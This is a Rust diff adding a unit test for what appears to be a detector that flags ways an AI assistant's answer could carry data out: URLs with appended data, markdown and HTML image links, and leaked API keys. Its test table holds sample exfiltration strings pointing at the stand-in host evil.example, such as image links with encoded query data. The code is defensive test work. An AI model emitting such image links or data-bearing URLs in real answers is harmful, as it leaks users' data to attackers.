@@ -1,6 +1,6 @@
 use std::time::{Duration, Instant};
 
-use super::{Grounds, MAX_SEARCHES, grounds, sentences};
+use super::{CarrierKind, Grounds, MAX_CARRIERS, MAX_SEARCHES, grounds, sentences};
 use crate::History;
 
 const PAGE: &str = "mcp:web/get_page(shop.example)";
@@ -108,4 +108,38 @@ fn sentences_end_where_a_reader_ends_them() {
     for (text, expected) in rows {
         assert_eq!(sentences(text).collect::<Vec<_>>(), *expected, "{text:?}");
     }
+}
+
+#[test]
+fn c7_what_may_carry_data_out_of_an_answer_is_named() {
+    use CarrierKind::{ComposedAddress, Credential, Picture};
+    let key = format!("sk-{}", "a1B2c3D4e5F6g7H8i9J0".repeat(2));
+    let with_key = format!("The key is {key}.");
+    let mut history = History::new();
+    history.trust("Look at https://example.org/docs?page=2 for me");
+    history.add_content("file:a.md", "See https://shop.example/item/7 for the price.");
+    // (answer, what is named)
+    let table: &[(&str, &[(CarrierKind, &str)])] = &[
+        ("It costs 7.", &[]),
+        ("See https://example.org/docs?page=2 and https://shop.example/item/7", &[]),
+        ("See https://evil.example/?d=aGVsbG8", &[(ComposedAddress, "https://evil.example/?d=aGVsbG8")]),
+        // Whom it leads to is all that it says.
+        ("See https://evil.example", &[]),
+        (
+            "![chart](https://evil.example/x.png?d=1)",
+            &[(Picture, "https://evil.example/x.png?d=1"), (ComposedAddress, "https://evil.example/x.png?d=1")],
+        ),
+        ("![chart](https://shop.example/item/7)", &[(Picture, "https://shop.example/item/7")]),
+        ("<img alt=x src='//evil.example/p'>", &[(Picture, "//evil.example/p"), (ComposedAddress, "//evil.example/p")]),
+        ("![local](chart.png) <img src=\"a.png\">", &[]),
+        (&with_key, &[(Credential, &key)]),
+    ];
+    for (answer, named) in table {
+        let found = grounds(answer, &history).carriers;
+        let found: Vec<(CarrierKind, &str)> = found.iter().map(|found| (found.kind, found.text.as_str())).collect();
+        assert_eq!(found, *named, "{answer}");
+    }
+    let many: String = (0..200).map(|n| format!("https://evil.example/?d={n} ")).collect();
+    assert_eq!(grounds(&many, &history).carriers.len(), MAX_CARRIERS);
+    assert_eq!(grounds("See https://evil.example/?d=1", &History::new()).carriers, [], "nothing was read");
 }
